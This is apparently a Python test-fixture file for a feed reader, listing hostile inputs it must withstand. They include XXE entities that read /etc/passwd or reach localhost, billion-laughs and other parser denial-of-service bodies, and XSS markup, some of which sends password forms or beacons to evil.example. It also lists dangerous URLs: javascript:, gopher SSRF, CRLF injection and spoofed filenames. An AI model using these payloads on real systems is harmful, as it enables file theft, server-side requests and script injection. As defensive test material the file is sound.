"""Hostile feeds and pages, self-written: what has hurt other feed readers, as small inputs."""

from __future__ import annotations

HEAD = (
    '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
    "<channel><title>Feed</title><link>https://outlet.example/</link><description>d</description>"
)
TAIL = "</channel></rss>"


def item(
    title: str = "A title",
    link: str = "https://outlet.example/a",
    guid: str = "1",
    date: str = "Mon, 05 Oct 2026 08:00:00 +0000",
    body: str = "Body",
) -> str:
    """One RSS item; the values are put in as they are, so they may be hostile."""
    return (
        f"<item><title>{title}</title><link>{link}</link><guid isPermaLink='false'>{guid}</guid>"
        f"<pubDate>{date}</pubDate><description>{body}</description></item>"
    )


def feed(*items: str, head: str = HEAD) -> bytes:
    return (head + "".join(items or (item(),)) + TAIL).encode("utf-8", "surrogatepass")


def with_doctype(declarations: str, body: str = "x") -> bytes:
    """A feed whose document type declares things of its own."""
    prologue = f'<?xml version="1.0"?><!DOCTYPE rss [{declarations}]>'
    return (prologue + HEAD.partition("\n")[2] + item(title=body) + TAIL).encode()


UNSAFE: dict[str, bytes] = {
    "billion laughs": with_doctype(
        '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)), "&a9;"
    ),
    "quadratic blow-up": with_doctype(f'<!ENTITY big "{"A" * 50_000}">', "&big;" * 1000),
    "a file as an entity": with_doctype('<!ENTITY f SYSTEM "file:///etc/passwd">', "&f;"),
    "an address as an entity": with_doctype('<!ENTITY f SYSTEM "http://127.0.0.1:1/x">', "&f;"),
    "a parameter entity": with_doctype('<!ENTITY % p SYSTEM "http://127.0.0.1:1/x"> %p;'),
    "100,000 levels": feed("<x>" * 100_000 + "</x>" * 100_000),
    "200,000 attributes": feed("<item " + " ".join(f'a{i}="x"' for i in range(200_000)) + "></item>"),
    "50,000 namespaces": feed("<item " + " ".join(f'xmlns:n{i}="u:{i}"' for i in range(50_000)) + "></item>"),
    "attributes in broken XML": feed("<item " + " ".join(f'a{i}=">"' for i in range(20_000)) + "></item>&"),
}

# Bodies that a parser must get through in well under the time that a crawl can spare, whatever it makes of them.
HEAVY: dict[str, bytes] = {
    "a name of 2 MB in the document type": b"<!DOCTYPE " + b"A" * 2_000_000 + b">" + feed(),
    "CDATA never closed": (HEAD + "<item><title><![CDATA[" + "x" * 2_000_000).encode(),
    "300,000 comment openings": (HEAD + "<!--" * 300_000).encode(),
    "references cut short": feed(item(title="&#" * 100_000)),
    "a title of a million characters": feed(item(title="А" * 1_000_000)),
}

NOT_FEEDS: dict[str, bytes] = {
    "a web page": b"<!DOCTYPE html><html><head><title>Down for maintenance</title></head><body>Sorry</body></html>",
    "an error in JSON": b'{"error":"nope"}',
    "a login form": b"<html><body><form></form></body></html>",
    "noise": bytes(range(256)) * 40,
    "markup in UTF-7": b'<?xml version="1.0" encoding="utf-7"?>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "plain words": "просто текст".encode(),
}

# Markup that is alive in a browser; every one must come out as plain words.
LIVE_MARKUP: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input type=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div style='position:fixed;inset:0'>Click</div>",
    "</td></tr></table></body></html><h1>outside</h1>",
    "<!--> <img src=x onerror=alert(1)> -->",
    "<!--[if mso]><img src=https://evil.example/x><![endif]-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)

BAD_LINKS: tuple[str, ...] = (
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "gopher://127.0.0.1:25/_MAIL",
    "https://cnn.example@evil.example/",
    "https:\\\\evil.example\\@cnn.example/",
    "https://outlet.example/‮gpj.exe",
    "https://outlet.example/%0d%0aSet-Cookie:x=1",
    "https://outlet.example/a\x00b",
    "https://outlet.example/a%00b",
    "https://outlet.example/" + "a" * 200_000,
    "https://outlet.example:0/",
    "https://outlet.example:99999/",
    "http://[::1/",
    "http://[fe80::1%25eth0]/",
    "http:///only/a/path",
    "http://.../",
    "",
)
